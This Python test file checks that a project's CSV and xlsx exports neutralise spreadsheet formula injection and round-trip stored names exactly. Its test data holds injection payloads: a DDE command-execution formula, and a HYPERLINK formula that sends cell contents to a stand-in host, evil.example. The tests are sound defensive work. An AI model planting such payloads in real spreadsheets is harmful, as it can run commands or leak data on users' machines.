"""15.4: names that a spreadsheet would run as formulas come out inert in every CSV and
xlsx export, and an export loads back to exactly the stored names (including names
that really start with a quote)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

from keepline.plant.excel import read_xlsx, write_xlsx
from keepline.plant.yamlio import dump_yaml, load_yaml, parse_yaml
from keepline.screening.render import sampling_list_csv
from keepline.screening.schemas import ListRowOut
from keepline.tabular import read_table, write_csv
from tests.worlds import XUZHOU

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "'quoted",  # a real name that starts with a quote
    "''two quotes",
    "'=not a formula either",
    "plain 名字",
]


def test_csv_export_is_inert_and_reads_back_exactly() -> None:
    text = write_csv(["name"], [{"name": n} for n in HOSTILE])
    cells = [r[0] for r in csv.reader(io.StringIO(text))][1:]
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    assert cells[0] == "'=cmd|' /C calc'!A0"
    assert cells[5] == "''quoted"
    assert cells[8] == "plain 名字"
    # Importers strip surrounding blanks, so a leading tab does not round-trip; it is
    # made inert all the same.
    assert write_csv(["n"], [{"n": "\t=1+1"}]) == "n\n'\t=1+1\n"
    table = read_table("names.csv", text.encode())
    assert [r["name"] for _, r in table.rows] == HOSTILE


def test_a_hand_typed_leading_quote_is_kept() -> None:
    table = read_table("names.csv", b"name\n'abc\n")
    assert [r["name"] for _, r in table.rows] == ["'abc"]


def test_sampling_list_csv_is_inert() -> None:
    row = ListRowOut(
        collection_point="gate",
        sample_id="S1",
        kind="pool",
        position=1,
        employee_no="XQ00001",
        name='=HYPERLINK("http://x")',
        team="@SUM(1)",
        shift="day",
    )
    line = sampling_list_csv([row]).splitlines()[1]
    assert line == 'gate,S1,pool,1,XQ00001,"\'=HYPERLINK(""http://x"")",\'@SUM(1),day'


def test_plant_export_keeps_names_exact_and_writes_no_formula(tmp_path: Path) -> None:
    plant = load_yaml(XUZHOU)
    plant.enterprise.name = HOSTILE[0]
    for zone, name in zip(plant.zones, HOSTILE, strict=False):
        zone.name = name
    path = tmp_path / "plant.xlsx"
    write_xlsx(plant, path)
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in x for x in sheets)
    back = read_xlsx(path)
    assert back.enterprise.name == HOSTILE[0]
    assert [z.name for z in back.zones][: len(HOSTILE)] == [z.name for z in plant.zones][
        : len(HOSTILE)
    ]
    assert back == plant
    assert parse_yaml(dump_yaml(plant), "p.yaml") == plant
